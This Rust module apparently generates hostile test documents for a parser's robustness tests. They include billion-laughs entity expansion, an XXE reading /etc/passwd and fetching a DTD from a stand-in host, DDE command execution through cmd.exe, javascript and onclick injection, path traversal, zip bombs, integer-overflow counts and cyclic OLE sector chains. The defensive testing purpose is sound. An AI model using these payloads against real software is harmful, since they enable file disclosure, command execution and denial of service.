//! Word files, sheets and old containers that mean harm: entities, links to elsewhere, claims, cycles.

use super::zip::{DEFLATED, Entry, bomb, stored, zip};
use super::{Hostile, MARKUP, read, refused};

const XML: &str = "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>";
const RELATIONS: &str = "http://schemas.openxmlformats.org/package/2006/relationships";
const OFFICE: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

/// Names of which each stands for ten of the one before.
const LAUGHS: &str = "<!DOCTYPE x [<!ENTITY a0 \"哈哈哈哈哈哈哈哈哈哈\"><!ENTITY a1 \"&a0;&a0;&a0;&a0;&a0;&a0;&a0;&a0;&a0;&a0;\">\
    <!ENTITY a2 \"&a1;&a1;&a1;&a1;&a1;&a1;&a1;&a1;&a1;&a1;\"><!ENTITY a3 \"&a2;&a2;&a2;&a2;&a2;&a2;&a2;&a2;&a2;&a2;\">\
    <!ENTITY a4 \"&a3;&a3;&a3;&a3;&a3;&a3;&a3;&a3;&a3;&a3;\"><!ENTITY a5 \"&a4;&a4;&a4;&a4;&a4;&a4;&a4;&a4;&a4;&a4;\">\
    <!ENTITY a6 \"&a5;&a5;&a5;&a5;&a5;&a5;&a5;&a5;&a5;&a5;\"><!ENTITY a7 \"&a6;&a6;&a6;&a6;&a6;&a6;&a6;&a6;&a6;&a6;\">]>";
const OUTSIDE: &str = "<!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\"><!ENTITY b SYSTEM \"https://harm.invalid/b\">\
    <!ENTITY % c SYSTEM \"https://harm.invalid/c.dtd\"> %c;]>";

fn types(part: &str, kind: &str) -> String {
    format!(
        "{XML}<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"><Default Extension=\"rels\" \
         ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/><Default Extension=\"xml\" \
         ContentType=\"application/xml\"/><Override PartName=\"/{part}\" \
         ContentType=\"application/vnd.openxmlformats-officedocument.{kind}.main+xml\"/></Types>"
    )
}

fn relation(kind: &str, target: &str, outside: bool) -> String {
    let mode = if outside { " TargetMode=\"External\"" } else { "" };
    format!("<Relationship Id=\"{kind}1\" Type=\"{OFFICE}/{kind}\" Target=\"{target}\"{mode}/>")
}

fn relations(inside: &str) -> String {
    format!("{XML}<Relationships xmlns=\"{RELATIONS}\">{inside}</Relationships>")
}

/// A Word file: what stands before its root, its body, and relations of the body.
fn docx(front: &str, body: &str, links: &str) -> Vec<u8> {
    let document = format!(
        "{XML}{front}<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\" \
         xmlns:r=\"{OFFICE}\"><w:body>{body}</w:body></w:document>"
    );
    let core = format!(
        "{XML}<cp:coreProperties xmlns:cp=\"http://schemas.openxmlformats.org/package/2006/metadata/core-properties\" \
         xmlns:dc=\"http://purl.org/dc/elements/1.1/\"><dc:title>{}</dc:title></cp:coreProperties>",
        escaped(MARKUP)
    );
    zip(&[
        stored("[Content_Types].xml", types("word/document.xml", "wordprocessingml.document")),
        stored("_rels/.rels", relations(&relation("officeDocument", "word/document.xml", false))),
        stored("word/_rels/document.xml.rels", relations(links)),
        stored("docProps/core.xml", core),
        stored("word/document.xml", document),
    ])
}

fn paragraph(words: &str) -> String {
    format!("<w:p><w:r><w:t>{words}</w:t></w:r></w:p>")
}

fn escaped(words: &str) -> String {
    words.replace('&', "&amp;").replace('<', "&lt;").replace('"', "&quot;")
}

fn table(rows: &[[&str; 3]]) -> String {
    let cell = |words: &&str| format!("<w:tc>{}</w:tc>", paragraph(&escaped(words)));
    let row = |row: &[&str; 3]| format!("<w:tr>{}</w:tr>", row.iter().map(cell).collect::<String>());
    format!("<w:tbl>{}</w:tbl>", rows.iter().map(row).collect::<String>())
}

pub fn words() -> Vec<Hostile> {
    let goal = format!("新建公园3个{MARKUP}");
    let rows =
        [["工作任务", "完成情况", "责任单位"], [&goal, "已建成3个", "区园林局<b onclick=window.harmed=1>"]];
    let marked = paragraph(&escaped(&format!("2024年重点工作{MARKUP}"))) + &table(&rows);
    let links = [
        relation("attachedTemplate", "https://harm.invalid/a.dotm", true),
        relation("image", "file:///etc/passwd", true),
        relation("hyperlink", "javascript:window.harmed=1", true),
        relation("oleObject", "https://harm.invalid/b", true),
        relation("subDocument", "../../../../etc/passwd", false),
    ];
    let field = "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \
        \"/k calc\"</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>";
    let span = "<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val=\"2147483647\"/></w:tcPr><w:p><w:r><w:t>工作任务</w:t></w:r></w:p>\
        </w:tc></w:tr></w:tbl>";
    let deep = |times: usize| format!("{}{}", "<w:tbl><w:tr><w:tc>".repeat(times), paragraph("新建公园3个"));
    vec![
        read("标记.docx", docx("", &marked, "")),
        read("外链.docx", docx("", &(field.to_owned() + &marked), &links.concat())),
        read("十亿声笑.docx", docx(LAUGHS, &(paragraph("&a7;") + &marked), "")),
        read("外面的实体.docx", docx(OUTSIDE, &(paragraph("&a;&b;") + &marked), "")),
        read("跨列.docx", docx("", &(span.to_owned() + &marked), "")),
        read("十万层.docx", docx("", &deep(100_000), "")),
        refused("十万层段.docx", docx("", &"<w:p>".repeat(100_000), "")),
        refused(
            "炸弹.docx",
            bombed(
                "word/document.xml",
                "<w:document><w:body><w:p><w:r><w:t>",
                "</w:t></w:r></w:p></w:body></w:document>",
            ),
        ),
        refused("没有正文.docx", zip(&[stored("word/", "")])),
        refused("不是.docx", docx("", "", "")),
    ]
}

/// An office file of which one part is a bomb.
fn bombed(part: &str, before: &str, after: &str) -> Vec<u8> {
    let packed = bomb(before.as_bytes(), 32, after.as_bytes());
    let kind = if part.starts_with("word") { "wordprocessingml.document" } else { "spreadsheetml.sheet" };
    let target = relation("officeDocument", part, false);
    zip(&[
        stored("[Content_Types].xml", types(part, kind)),
        stored("_rels/.rels", relations(&target)),
        Entry { packed, method: DEFLATED, size: 0x7fff_ffff, sum: 0, ..stored(part, "") },
    ])
}

/// A workbook of one sheet.
fn xlsx(name: &str, sheet: &str, shared: &str) -> Vec<u8> {
    let main = "xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"";
    let links = relation("worksheet", "worksheets/sheet1.xml", false)
        + &relation("sharedStrings", "sharedStrings.xml", false)
        + &relation("externalLink", "https://harm.invalid/a.xlsx", true);
    let book = format!(
        "{XML}<workbook {main} xmlns:r=\"{OFFICE}\"><sheets><sheet name=\"{}\" sheetId=\"1\" r:id=\"worksheet1\"/></sheets></workbook>",
        escaped(name)
    );
    zip(&[
        stored("[Content_Types].xml", types("xl/workbook.xml", "spreadsheetml.sheet")),
        stored("_rels/.rels", relations(&relation("officeDocument", "xl/workbook.xml", false))),
        stored("xl/_rels/workbook.xml.rels", relations(&links)),
        stored("xl/workbook.xml", book),
        stored("xl/sharedStrings.xml", format!("{XML}<sst {main}>{shared}</sst>")),
        stored("xl/worksheets/sheet1.xml", format!("{XML}<worksheet {main}>{sheet}</worksheet>")),
    ])
}

fn cells(row: usize, words: &[&str]) -> String {
    let cell = |(at, words): (usize, &&str)| {
        let column = char::from(b'A' + at as u8);
        format!("<c r=\"{column}{row}\" t=\"inlineStr\"><is><t>{}</t></is></c>", escaped(words))
    };
    format!("<row r=\"{row}\">{}</row>", words.iter().enumerate().map(cell).collect::<String>())
}

pub fn sheets() -> Vec<Hostile> {
    let goal = format!("新建公园3个{MARKUP}");
    let rows = cells(1, &["工作任务", "完成情况", "责任单位"])
        + &cells(2, &[&goal, "=cmd|' /C calc'!A0", "区园林局<b onclick=window.harmed=1>"]);
    let good = format!("<sheetData>{rows}</sheetData>");
    let far = format!(
        "<dimension ref=\"A1:XFD1048576\"/><sheetData>{rows}{}</sheetData>",
        "<row r=\"1048576\"><c r=\"XFD1048576\" t=\"inlineStr\"><is><t>远</t></is></c></row>"
    );
    let merged =
        format!("{good}<mergeCells count=\"4294967295\"><mergeCell ref=\"A3:XFD1048576\"/></mergeCells>");
    let lost = "<sheetData><row r=\"1\"><c r=\"A1\" t=\"s\"><v>4294967295</v></c><c r=\"B1\" t=\"s\"><v>-1</v></c><c r=\"ZZZZZZZ1\"><v>1</v></c>\
        <c r=\"A99999999999999999999\"><v>1</v></c></row></sheetData>";
    let cell = "<c t=\"s\"><v>0</v></c>".repeat(1_000);
    let million = format!("<sheetData>{}</sheetData>", format!("<row>{cell}</row>").repeat(1_100));
    let shared = format!("<si><t>{}</t></si>", "很长".repeat(10_000));
    let row = |repeated: &str| {
        format!(
            "<table:table-row table:number-rows-repeated=\"{repeated}\"><table:table-cell \
        table:number-columns-repeated=\"2147483648\" table:number-columns-spanned=\"4294967295\"><text:p>新建公园3个</text:p></table:table-cell></table:table-row>"
        )
    };
    let spaces = "<text:p>新建公园3个<text:s text:c=\"4294967295\"/></text:p>";
    vec![
        read("表名.xlsx", xlsx(&format!("{MARKUP}__proto__"), &good, "")),
        read("远角.xlsx", xlsx("表", &far, "")),
        read("合并.xlsx", xlsx("表", &merged, "")),
        read("没有的字.xlsx", xlsx("表", lost, "<si><t>甲</t></si>")),
        read("百万格.xlsx", xlsx("表", &million, &shared)),
        refused("炸弹.xlsx", bombed("xl/workbook.xml", "<workbook>", "</workbook>")),
        refused("重复.ods", ods(&format!("<table:table>{}</table:table>", row("2147483648")))),
        refused("百万行.ods", ods(&format!("<table:table>{}</table:table>", row("1000").repeat(200)))),
        read("空格.ods", ods(spaces)),
        read("十亿声笑.ods", ods(&format!("{LAUGHS}<text:p>新建公园3个&a7;</text:p>"))),
        refused("套表.ods", ods(&"<table:table><table:table-row><table:table-cell>".repeat(100_000))),
    ]
}

fn ods(body: &str) -> Vec<u8> {
    let content = format!(
        "{XML}<office:document-content><office:body><office:spreadsheet>{body}</office:spreadsheet></office:body></office:document-content>"
    );
    zip(&[
        stored("mimetype", "application/vnd.oasis.opendocument.spreadsheet"),
        stored("content.xml", content),
        stored("META-INF/manifest.xml", format!("{XML}<manifest:manifest/>")),
    ])
}

/// Old containers whose chains of sectors lead back to themselves.
pub fn containers() -> Vec<Hostile> {
    vec![
        refused("绕圈.doc", cyclic("WordDocument", false)),
        refused("绕圈.xls", cyclic("Workbook", false)),
        refused("绕目录.doc", cyclic("WordDocument", true)),
        refused("加密.xlsx", cyclic("EncryptedPackage", false)),
    ]
}

fn cyclic(stream: &str, lists: bool) -> Vec<u8> {
    let words = |words: &[u32]| words.iter().flat_map(|word| word.to_le_bytes()).collect::<Vec<u8>>();
    let (none, fat) = (u32::MAX - 1, u32::MAX - 2);
    let mut bytes = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1".to_vec();
    bytes.extend([0; 16]);
    bytes.extend([0x3e, 0, 3, 0, 0xfe, 0xff, 9, 0, 6, 0, 0, 0, 0, 0, 0, 0]);
    // Lists of the table's sectors: one that is followed by itself, where asked for.
    let list = if lists { [2, 100_000] } else { [none, 0] };
    bytes.extend(words(&[0, 1, 1, 0, 4096, none, 0, list[0], list[1], 0]));
    bytes.extend(vec![0xff; 108 * 4]);
    // The table: the directory's sector leads to itself, those of the stream to one another.
    bytes.extend(words(&[fat, 1, 3, 2]));
    bytes.extend(vec![0xff; 124 * 4]);
    bytes.extend(entry("Root Entry", 5, 1, none, 0));
    bytes.extend(entry(stream, 2, u32::MAX, 2, 1 << 28));
    bytes.extend(vec![0; 256]);
    bytes.extend(vec![0; 508]);
    bytes.extend(words(&[2]));
    bytes.extend(vec![0; 512]);
    bytes
}

fn entry(name: &str, kind: u8, child: u32, start: u32, size: u32) -> Vec<u8> {
    let mut bytes: Vec<u8> = name.encode_utf16().flat_map(u16::to_le_bytes).collect();
    bytes.resize(64, 0);
    bytes.extend(((name.len() as u16 + 1) * 2).to_le_bytes());
    bytes.extend([kind, 1]);
    // Its neighbours are itself.
    let beside = if kind == 5 { u32::MAX } else { 1 };
    bytes.extend([beside, beside, child].iter().flat_map(|word| word.to_le_bytes()));
    bytes.extend([0; 36]);
    bytes.extend([start, size, 0].iter().flat_map(|word| word.to_le_bytes()));
    bytes
}
